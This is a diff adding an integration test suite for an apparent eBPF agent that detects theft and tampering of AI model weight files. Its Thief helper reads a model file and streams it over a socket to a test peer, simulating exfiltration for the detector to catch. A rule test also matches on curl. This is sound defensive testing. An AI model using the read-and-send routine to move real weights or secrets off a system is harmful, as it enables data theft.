@@ -1,0 +1,230 @@
+"""The whole agent, live on this kernel: what a user and an operator would notice."""
+
+import json
+import os
+import shutil
+import subprocess
+import sys
+import tempfile
+import time
+import unittest
+
+sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), ".."))
+from support.agent_process import ROOT, Agent, run_verb  # noqa: E402
+from support.peer_host import PeerHost  # noqa: E402
+
+MODEL_BYTES = 48 << 20
+RULES = os.path.join(ROOT, "rules")
+
+
+def bpf_objects():
+    """Ids of every program and link in the kernel."""
+    ids = set()
+    for kind in ("prog", "link"):
+        listed = subprocess.run(["/usr/sbin/bpftool", "-j", kind, "list"], capture_output=True, text=True, check=True)
+        ids |= {(kind, one["id"]) for one in json.loads(listed.stdout or "[]")}
+    return ids
+
+
+class Thief:
+    """A process of its own that does one step each time it is told to, so that a test can act in between."""
+
+    SCRIPT = """
+import socket, sys
+data = None
+for line in sys.stdin:
+    step, _, rest = line.strip().partition(" ")
+    if step == "read":
+        with open(rest, "rb") as f: data = f.read()
+    elif step == "send":
+        host, port = rest.split()
+        with socket.create_connection((host, int(port))) as s: s.sendall(data)
+    print("done", flush=True)
+"""
+
+    def __enter__(self):
+        self.process = subprocess.Popen([sys.executable, "-c", self.SCRIPT], stdin=subprocess.PIPE,
+                                        stdout=subprocess.PIPE, text=True)
+        return self
+
+    def do(self, step):
+        self.process.stdin.write(step + "\n")
+        self.process.stdin.flush()
+        assert self.process.stdout.readline().strip() == "done"
+
+    def __exit__(self, *unused):
+        self.process.communicate()
+
+
+class AgentTest(unittest.TestCase):
+
+    def setUp(self):
+        if os.geteuid() != 0 or not os.path.exists("/sys/kernel/btf/vmlinux"):
+            self.skipTest("needs root and a kernel with BTF")
+        self.dir = tempfile.mkdtemp(prefix="tensorwarden-test-", dir="/var/tmp")
+        self.addCleanup(shutil.rmtree, self.dir)
+        os.mkdir(os.path.join(self.dir, "models"))
+        self.model = os.path.join(self.dir, "models", "weights.safetensors")
+        self.write_model(self.model)
+        self.config = self.write("config.yaml", f"""
+state_dir: {self.dir}/state
+discover: false
+assets:
+  - name: weights
+    class: model
+    paths: ["{self.dir}/models/**"]
+""")
+
+    def write(self, name, text):
+        path = os.path.join(self.dir, name)
+        with open(path, "w", encoding="utf-8") as file:
+            file.write(text)
+        return path
+
+    @staticmethod
+    def write_model(path):
+        header = json.dumps({"w": {"dtype": "U8", "shape": [MODEL_BYTES], "data_offsets": [0, MODEL_BYTES]}}).encode()
+        header += b" " * (-len(header) % 8)
+        with open(path, "wb") as file:
+            file.write(len(header).to_bytes(8, "little") + header + os.urandom(MODEL_BYTES))
+        os.sync()
+
+    def start(self, *flags):
+        agent = Agent(self.config, *flags).wait_ready()
+        self.addCleanup(agent.stop)
+        return agent
+
+    def wait_saved_after(self, since):
+        """The agent saves within 100 ms of a new carrier: waits for a state file that is newer than `since`."""
+        state = os.path.join(self.dir, "state", "state")
+        deadline = time.monotonic() + 10
+        while not (os.path.exists(state) and os.stat(state).st_mtime > since):
+            self.assertLess(time.monotonic(), deadline, "the state was not saved")
+            time.sleep(0.01)
+
+    def test_an_upload_is_alerted_before_half_of_the_model_has_left(self):
+        agent = self.start()
+        with PeerHost("tw-test-up") as peer, Thief() as thief:
+            thief.do(f"read {self.model}")
+            thief.do(f"send {peer.address} {peer.port}")
+            self.assertEqual(peer.received(), os.path.getsize(self.model))
+            alert = agent.wait_alert(lambda a: a["activity"] == "open")
+            self.assertEqual(alert["process"]["pid"], thief.process.pid)
+            self.assertEqual(alert["asset"]["path"], self.model)
+            self.assertLess(alert["value"], MODEL_BYTES / 2)
+
+    def test_a_model_read_before_kill_9_is_followed_after_a_restart(self):
+        first = self.start()
+        with PeerHost("tw-test-kill") as peer, Thief() as thief:
+            read_at = time.time()
+            thief.do(f"read {self.model}")
+            self.wait_saved_after(read_at)
+            first.kill()
+            second = self.start()
+            thief.do(f"send {peer.address} {peer.port}")
+            alert = second.wait_alert(lambda a: a["destination"]["address"] == peer.address)
+            self.assertEqual(alert["process"]["pid"], thief.process.pid)
+
+    def test_a_copy_made_before_a_restart_is_still_the_model(self):
+        first = self.start()
+        copied_at = time.time()
+        copy = os.path.join(self.dir, "notes.txt")
+        subprocess.run(["cp", self.model, copy], check=True)
+        self.wait_saved_after(copied_at)
+        self.assertEqual(first.stop(), 0)
+        second = self.start()
+        with PeerHost("tw-test-copy") as peer, Thief() as thief:
+            thief.do(f"read {copy}")
+            thief.do(f"send {peer.address} {peer.port}")
+            second.wait_alert(lambda a: a["destination"]["address"] == peer.address)
+
+    def test_nothing_stays_attached_after_sigterm_or_kill_9(self):
+        before = bpf_objects()
+        agent = self.start()
+        self.assertGreater(len(bpf_objects() - before), 10)
+        self.assertEqual(agent.stop(), 0)
+        self.wait_gone(before)
+        agent = self.start()
+        agent.kill()
+        self.wait_gone(before)
+
+    def wait_gone(self, before):
+        """The kernel frees programs after a grace period."""
+        deadline = time.monotonic() + 10
+        while left := bpf_objects() - before:
+            self.assertLess(time.monotonic(), deadline, f"still there: {left}")
+            time.sleep(0.05)
+
+    def test_a_replay_gives_the_same_alerts_with_the_same_ids(self):
+        capture = os.path.join(self.dir, "capture")
+        agent = self.start("--record", capture)
+        with open(self.model, "r+b") as model:
+            model.seek(1 << 20)
+            model.write(b"flipped")
+        agent.wait_alert(lambda a: a["asset"]["path"] == self.model)
+        self.assertEqual(agent.stop(), 0)
+        replays = [run_verb("replay", capture, "--config", self.config, "--rules", RULES, "--output", "json")
+                   for _ in range(2)]
+        self.assertEqual([r.returncode for r in replays], [0, 0], replays[0].stderr)
+        live = [{k: v for k, v in a.items() if k != "_seen"} for a in agent.alerts]
+        self.assertEqual([json.loads(line) for line in replays[0].stdout.splitlines()], live)
+        self.assertEqual(replays[0].stdout, replays[1].stdout)
+
+    def test_an_empty_config_finds_a_model_that_a_process_holds(self):
+        empty = self.write("empty.yaml", f"state_dir: {self.dir}/state2\n")
+        with open(self.model, "rb"):
+            self.config = empty
+            agent = self.start()
+        with open(self.model, "r+b") as model:
+            model.seek(4096)
+            model.write(b"flipped")
+        agent.wait_alert(lambda a: a["asset"]["path"] == self.model)
+
+
+class StartErrorTest(unittest.TestCase):
+    """Each is one line on stderr that names the place and the fix, with an exit status that is not 0."""
+
+    def setUp(self):
+        self.dir = tempfile.mkdtemp(prefix="tensorwarden-test-", dir="/var/tmp")
+        self.addCleanup(shutil.rmtree, self.dir)
+        self.config = os.path.join(self.dir, "config.yaml")
+        with open(self.config, "w", encoding="utf-8") as file:
+            file.write(f"state_dir: {self.dir}/state\n")
+
+    def assert_one_line(self, result, *words):
+        self.assertNotEqual(result.returncode, 0)
+        lines = result.stderr.strip().splitlines()
+        self.assertEqual(len(lines), 1, result.stderr)
+        for word in words:
+            self.assertIn(word, lines[0])
+
+    def run_hiding(self, path):
+        """Runs the agent in a mount namespace of its own, where `path` is an empty directory."""
+        return run_verb("run", "--config", self.config, "--rules", RULES, "--duration", "5s",
+                        prefix=("unshare", "-m", "sh", "-c", f'mount -t tmpfs none {path} && exec "$@"', "sh"))
+
+    def test_no_btf(self):
+        self.assert_one_line(self.run_hiding("/sys/kernel/btf"), "/sys/kernel/btf/vmlinux", "CONFIG_DEBUG_INFO_BTF")
+
+    def test_no_tracefs(self):
+        self.assert_one_line(self.run_hiding("/sys/kernel/tracing"), "tracefs", "mount -t tracefs")
+
+    def test_no_cap_bpf(self):
+        result = run_verb("run", "--config", self.config, "--rules", RULES, "--duration", "5s",
+                          prefix=("setpriv", "--bounding-set=-bpf,-sys_admin", "--inh-caps=-bpf,-sys_admin"))
+        self.assert_one_line(result, "CAP_BPF", "root")
+
+    def test_an_unknown_config_key_names_its_place_and_the_nearest_key(self):
+        with open(self.config, "a", encoding="utf-8") as file:
+            file.write("assetts: []\n")
+        self.assert_one_line(run_verb("run", "--config", self.config), f"{self.config}:2:1", "assets")
+
+    def test_a_rule_with_a_typo_names_its_place_and_the_nearest_field(self):
+        rules = os.path.join(self.dir, "rules.yaml")
+        with open(rules, "w", encoding="utf-8") as file:
+            file.write("- rule: r\n  desc: d\n  condition: proc.nmae = curl\n  output: o\n  priority: NOTICE\n")
+        self.assert_one_line(run_verb("run", "--config", self.config, "--rules", rules), f"{rules}:3:", "proc.name")
+
+
+if __name__ == "__main__":
+    unittest.main(verbosity=2)
